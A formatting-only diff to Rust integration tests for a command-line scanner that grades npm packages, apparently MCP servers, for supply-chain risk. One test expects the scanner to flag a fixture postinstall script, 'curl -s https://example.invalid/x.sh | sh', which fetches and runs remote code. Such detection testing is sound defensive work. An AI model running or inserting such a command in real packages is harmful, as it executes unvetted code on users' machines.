@@ -12,7 +12,11 @@ fn well_kept_package_passes_the_gate() {
     let reg = fixture_registry();
     let out = run(scan(&reg, &["good-mcp-server", "--fail-under", "70"]));
     assert_eq!(out.code, 0, "{}{}", out.stdout, out.stderr);
-    assert!(out.stdout.contains("good-mcp-server@1.2.0"), "{}", out.stdout);
+    assert!(
+        out.stdout.contains("good-mcp-server@1.2.0"),
+        "{}",
+        out.stdout
+    );
     assert!(out.stdout.contains("score 100/100 (A)"), "{}", out.stdout);
     assert!(out.stdout.contains("coverage 100%"), "{}", out.stdout);
     // The packument is fetched in full form.
@@ -23,7 +27,10 @@ fn well_kept_package_passes_the_gate() {
 #[test]
 fn risky_package_fails_the_gate_with_the_expected_findings() {
     let reg = fixture_registry();
-    let out = run(scan(&reg, &["risky-mcp-server", "--format", "json", "--fail-under", "70"]));
+    let out = run(scan(
+        &reg,
+        &["risky-mcp-server", "--format", "json", "--fail-under", "70"],
+    ));
     assert_eq!(out.code, 1, "{}{}", out.stdout, out.stderr);
     let r = json(&out);
     assert_eq!(r["schema_version"], 1);
@@ -68,7 +75,10 @@ fn risky_package_fails_the_gate_with_the_expected_findings() {
         .iter()
         .find(|f| f["rule"] == "install-scripts")
         .unwrap()["evidence"]["scripts.install_commands"];
-    assert_eq!(scripts["postinstall"], "curl -s https://example.invalid/x.sh | sh");
+    assert_eq!(
+        scripts["postinstall"],
+        "curl -s https://example.invalid/x.sh | sh"
+    );
     assert_eq!(r["summary"]["failed"], 1);
     assert_eq!(r["exit_code"], 1);
 }
@@ -101,7 +111,10 @@ fn account_takeover_history_is_flagged() {
 #[test]
 fn stripped_metadata_is_inconclusive_never_a_pass() {
     let reg = fixture_registry();
-    let out = run(scan(&reg, &["@fixture/mirrored-server", "--format", "json"]));
+    let out = run(scan(
+        &reg,
+        &["@fixture/mirrored-server", "--format", "json"],
+    ));
     assert_eq!(out.code, 0, "{}", out.stderr);
     let r = json(&out);
     let p = &r["packages"][0];
@@ -114,7 +127,10 @@ fn stripped_metadata_is_inconclusive_never_a_pass() {
         "signatures-missing",
         "publisher-not-maintainer",
     ] {
-        assert!(unknown.contains(&want.to_string()), "{want} not inconclusive: {unknown:?}");
+        assert!(
+            unknown.contains(&want.to_string()),
+            "{want} not inconclusive: {unknown:?}"
+        );
         assert!(
             !p["passed"].as_array().unwrap().contains(&json!(want)),
             "{want} counted as passed"
@@ -122,12 +138,22 @@ fn stripped_metadata_is_inconclusive_never_a_pass() {
     }
     assert!(p["coverage"].as_u64().unwrap() < 100);
     assert!(p["score_floor"].as_u64() < p["score"].as_u64());
-    assert_eq!(p["facts"]["maintainers"]["count"]["$unknown"], "the registry returned no maintainers for this package");
+    assert_eq!(
+        p["facts"]["maintainers"]["count"]["$unknown"],
+        "the registry returned no maintainers for this package"
+    );
     assert!(r["summary"]["inconclusive"].as_u64().unwrap() >= 6);
 
-    let out = run(scan(&reg, &["@fixture/mirrored-server", "--min-coverage", "90"]));
+    let out = run(scan(
+        &reg,
+        &["@fixture/mirrored-server", "--min-coverage", "90"],
+    ));
     assert_eq!(out.code, 1, "{}", out.stdout);
-    assert!(out.stdout.contains("is below --min-coverage 90%"), "{}", out.stdout);
+    assert!(
+        out.stdout.contains("is below --min-coverage 90%"),
+        "{}",
+        out.stdout
+    );
 
     // --strict turns unknown into failure.
     let out = run(scan(&reg, &["@fixture/mirrored-server", "--strict"]));
@@ -141,7 +167,13 @@ fn real_packuments_scan() {
     let reg = fixture_registry();
     let out = run(scan(
         &reg,
-        &["abbrev", "abbrev@3.0.0", "@modelcontextprotocol/server-filesystem", "--format", "json"],
+        &[
+            "abbrev",
+            "abbrev@3.0.0",
+            "@modelcontextprotocol/server-filesystem",
+            "--format",
+            "json",
+        ],
     ));
     assert_eq!(out.code, 0, "{}", out.stderr);
     let r = json(&out);
@@ -154,10 +186,9 @@ fn real_packuments_scan() {
     assert_eq!(old["version"], "3.0.0");
     assert_eq!(old["facts"]["publish"]["method"], "ci-provenance");
     // The scoped request went out as @scope%2fname.
-    assert!(reg
-        .requests()
-        .iter()
-        .any(|q| q.raw_path.eq_ignore_ascii_case("/@modelcontextprotocol%2fserver-filesystem")));
+    assert!(reg.requests().iter().any(|q| q
+        .raw_path
+        .eq_ignore_ascii_case("/@modelcontextprotocol%2fserver-filesystem")));
     let fs = &r["packages"][2];
     assert_eq!(fs["version"], "2026.7.10");
     assert_eq!(fs["facts"]["maintainers"]["count"], 7);
@@ -168,14 +199,39 @@ fn missing_package_is_reported_and_the_rest_go_on() {
     let reg = fixture_registry();
     let out = run(scan(
         &reg,
-        &["risky-mcp-server", "does-not-exist", "good-mcp-server@9.9.9", "--fail-under", "70"],
+        &[
+            "risky-mcp-server",
+            "does-not-exist",
+            "good-mcp-server@9.9.9",
+            "--fail-under",
+            "70",
+        ],
     ));
     // 3 (could not check) wins over 1 (risky failed the gate).
     assert_eq!(out.code, 3, "{}", out.stdout);
-    assert!(out.stdout.contains("risky-mcp-server@0.0.2"), "{}", out.stdout);
-    assert!(out.stderr.contains("package does-not-exist does not exist on http://127.0.0.1"), "{}", out.stderr);
-    assert!(out.stderr.contains("cannot check good-mcp-server@9.9.9: version 9.9.9 does not exist"), "{}", out.stderr);
-    assert!(out.stdout.contains("3 package(s): 0 passed, 1 failed, 2 could not be checked"), "{}", out.stdout);
+    assert!(
+        out.stdout.contains("risky-mcp-server@0.0.2"),
+        "{}",
+        out.stdout
+    );
+    assert!(
+        out.stderr
+            .contains("package does-not-exist does not exist on http://127.0.0.1"),
+        "{}",
+        out.stderr
+    );
+    assert!(
+        out.stderr
+            .contains("cannot check good-mcp-server@9.9.9: version 9.9.9 does not exist"),
+        "{}",
+        out.stderr
+    );
+    assert!(
+        out.stdout
+            .contains("3 package(s): 0 passed, 1 failed, 2 could not be checked"),
+        "{}",
+        out.stdout
+    );
 
     let out = run(scan(&reg, &["does-not-exist", "--format", "json"]));
     assert_eq!(out.code, 3);
@@ -187,7 +243,12 @@ fn missing_package_is_reported_and_the_rest_go_on() {
 #[test]
 fn invalid_specs_are_usage_errors_naming_the_spec() {
     let reg = fixture_registry();
-    for bad in ["foo bar", "@scope", "git+https://github.com/a/b", "foo@what?"] {
+    for bad in [
+        "foo bar",
+        "@scope",
+        "git+https://github.com/a/b",
+        "foo@what?",
+    ] {
         let out = run(scan(&reg, &["good-mcp-server", bad]));
         assert_eq!(out.code, 2, "{bad}: {}", out.stderr);
         assert!(out.stderr.contains(&format!("`{bad}`")), "{}", out.stderr);
@@ -202,12 +263,28 @@ fn invalid_specs_are_usage_errors_naming_the_spec() {
 #[test]
 fn broken_documents_are_errors_on_that_package() {
     let reg = fixture_registry();
-    let out = run(scan(&reg, &["broken-json", "empty-versions", "good-mcp-server"]));
+    let out = run(scan(
+        &reg,
+        &["broken-json", "empty-versions", "good-mcp-server"],
+    ));
     assert_eq!(out.code, 3, "{}", out.stdout);
     assert!(out.stderr.contains("broken-json"), "{}", out.stderr);
-    assert!(out.stderr.contains("malformed document: invalid JSON"), "{}", out.stderr);
-    assert!(out.stderr.contains("cannot check empty-versions: the registry lists no versions"), "{}", out.stderr);
-    assert!(out.stdout.contains("good-mcp-server@1.2.0"), "{}", out.stdout);
+    assert!(
+        out.stderr.contains("malformed document: invalid JSON"),
+        "{}",
+        out.stderr
+    );
+    assert!(
+        out.stderr
+            .contains("cannot check empty-versions: the registry lists no versions"),
+        "{}",
+        out.stderr
+    );
+    assert!(
+        out.stdout.contains("good-mcp-server@1.2.0"),
+        "{}",
+        out.stdout
+    );
 }
 
 #[test]
@@ -216,7 +293,12 @@ fn html_instead_of_json_is_diagnosed() {
     reg.fault("/good-mcp-server", Fault::Html);
     let out = run(scan(&reg, &["good-mcp-server"]));
     assert_eq!(out.code, 3);
-    assert!(out.stderr.contains("cannot check good-mcp-server: http://127.0.0.1"), "{}", out.stderr);
+    assert!(
+        out.stderr
+            .contains("cannot check good-mcp-server: http://127.0.0.1"),
+        "{}",
+        out.stderr
+    );
     assert!(out.stderr.contains("returned text/html"), "{}", out.stderr);
     assert!(out.stderr.contains("instead of JSON"), "{}", out.stderr);
 }
@@ -232,7 +314,11 @@ fn oversized_packument_is_refused() {
     );
     let out = run(scan(&reg, &["huge-pkg", "--max-body-mb", "1"]));
     assert_eq!(out.code, 3, "{}", out.stdout);
-    assert!(out.stderr.contains("more than 1048576 bytes"), "{}", out.stderr);
+    assert!(
+        out.stderr.contains("more than 1048576 bytes"),
+        "{}",
+        out.stderr
+    );
     let out = run(scan(&reg, &["huge-pkg", "--max-body-mb", "2"]));
     assert_eq!(out.code, 0, "{}", out.stderr);
 }
@@ -240,12 +326,24 @@ fn oversized_packument_is_refused() {
 #[test]
 fn server_errors_are_retried_with_backoff() {
     let reg = fixture_registry();
-    reg.fault("/good-mcp-server", Fault::Status { code: 503, times: 2 });
+    reg.fault(
+        "/good-mcp-server",
+        Fault::Status {
+            code: 503,
+            times: 2,
+        },
+    );
     let out = run(scan(&reg, &["good-mcp-server"]));
     assert_eq!(out.code, 0, "{}", out.stderr);
     assert_eq!(reg.hits("/good-mcp-server"), 3);
 
-    reg.fault("/takeover-demo", Fault::Status { code: 500, times: 10 });
+    reg.fault(
+        "/takeover-demo",
+        Fault::Status {
+            code: 500,
+            times: 10,
+        },
+    );
     let out = run(scan(&reg, &["takeover-demo", "--retries", "2"]));
     assert_eq!(out.code, 3);
     assert!(out.stderr.contains("answered HTTP 500"), "{}", out.stderr);
@@ -279,7 +377,10 @@ fn truncated_bodies_and_delays() {
     assert!(out.stderr.contains("cut off"), "{}", out.stderr);
 
     reg.fault("/takeover-demo", Fault::Delay(Duration::from_secs(3)));
-    let out = run(scan(&reg, &["takeover-demo", "--timeout", "1", "--retries", "0"]));
+    let out = run(scan(
+        &reg,
+        &["takeover-demo", "--timeout", "1", "--retries", "0"],
+    ));
     assert_eq!(out.code, 3);
     assert!(out.stderr.contains("timed out"), "{}", out.stderr);
 }
@@ -312,7 +413,12 @@ fn no_progress_bar_or_noise_when_piped() {
 fn verbose_logs_each_target_and_quiet_is_one_line() {
     let reg = fixture_registry();
     let out = run(scan(&reg, &["good-mcp-server", "-v"]));
-    assert!(out.stderr.contains("good-mcp-server → good-mcp-server@1.2.0"), "{}", out.stderr);
+    assert!(
+        out.stderr
+            .contains("good-mcp-server → good-mcp-server@1.2.0"),
+        "{}",
+        out.stderr
+    );
     let out = run(scan(&reg, &["risky-mcp-server", "-q"]));
     assert_eq!(out.stdout.lines().count(), 2, "{}", out.stdout);
 }
@@ -320,7 +426,10 @@ fn verbose_logs_each_target_and_quiet_is_one_line() {
 #[test]
 fn json_output_never_contains_a_progress_bar_and_is_one_document() {
     let reg = fixture_registry();
-    let out = run(scan(&reg, &["good-mcp-server", "risky-mcp-server", "--format", "json"]));
+    let out = run(scan(
+        &reg,
+        &["good-mcp-server", "risky-mcp-server", "--format", "json"],
+    ));
     let r = json(&out);
     assert_eq!(r["summary"]["packages"], 2);
     assert_eq!(out.stderr, "");
